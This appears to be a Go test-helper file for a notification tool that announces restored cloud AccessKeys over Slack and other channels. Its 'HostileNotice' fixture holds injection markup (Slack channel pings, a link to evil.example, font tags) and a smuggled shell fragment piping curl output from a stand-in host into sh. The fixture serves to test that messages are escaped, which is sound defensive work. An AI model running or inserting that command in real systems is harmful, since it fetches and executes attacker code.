package notifytest

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/akrecycle/ak-recycle-alert/notify"
)

// Notice is a notice as the restore function announces one: an AccessKey restored from Slack.
func Notice() *notify.Notice {
	return &notify.Notice{
		Title: "RAM AccessKey restored from Slack",
		Text:  "AccessKey LTAI5tAliceExpiring0002 of RAM user alice in account prod (1234567890123456) was restored from Slack by alice (U0ALICE01)",
		ID:    "msg_0c5d9c6a1f0e4b7e8a2d3f4b5c6d7e8f",
		Body: json.RawMessage(`{"type":"ram.accesskey.restored","timestamp":"2026-11-30T09:00:00Z","data":{"accountId":"1234567890123456",` +
			`"accountName":"prod","userId":"20732900249392aa","userName":"alice","accessKeyId":"LTAI5tAliceExpiring0002",` +
			`"alertId":"alrt_00000000000000000000000000000002","restoredBy":{"slackUserId":"U0ALICE01","slackUserName":"alice",` +
			`"slackActionTs":"1796000000.000100"},"outcome":"restored"}}`),
	}
}

// HostileNotice is a refusal whose text carries every channel's markup (Slack control sequences and
// emphasis, markdown links, headings, quotes, mentions, font tags), line breaks and a shell command, as
// a Slack user name and an account label could.
func HostileNotice() *notify.Notice {
	n := Notice()
	n.Title = "RAM AccessKey restore refused"
	n.Attention = true
	n.Text = "Slack user <!channel> *eve* [x](https://evil.example)\n# heading (U0EVE0001) clicked Restore on AccessKey LTAI5t of RAM user " +
		"`x` @all <at id=all></at> <font color=red>red</font> in account > quote\r\n- list (1234567890123456) '; curl evil|sh # but is not in RESTORE_ALLOWED_USERS: nothing was done"
	return n
}

// CheckNotice renders the notice n for the channel newCh builds, sends it to a server that answers as
// the vendor does (ok), and returns its one post: a notice is one post, sent once.
func CheckNotice(t *testing.T, ok Answer, newCh NewChannel, n *notify.Notice) notify.Post {
	t.Helper()
	srv := NewServer(t, nil, ok)
	var waits []time.Duration
	ch := newCh(t, srv.URL, &waits)
	posts, err := ch.RenderNotice(n)
	if err != nil {
		t.Fatalf("%s: RenderNotice() = %v", ch.Name(), err)
	}
	if len(posts) != 1 {
		t.Fatalf("%s: RenderNotice() gave %d posts, want 1", ch.Name(), len(posts))
	}
	if err := posts[0].Send(t.Context()); err != nil {
		t.Fatalf("%s: Send(notice) = %v", ch.Name(), err)
	}
	if srv.Hits() != 1 {
		t.Errorf("%s: the notice was posted %d times, want 1", ch.Name(), srv.Hits())
	}
	return posts[0]
}
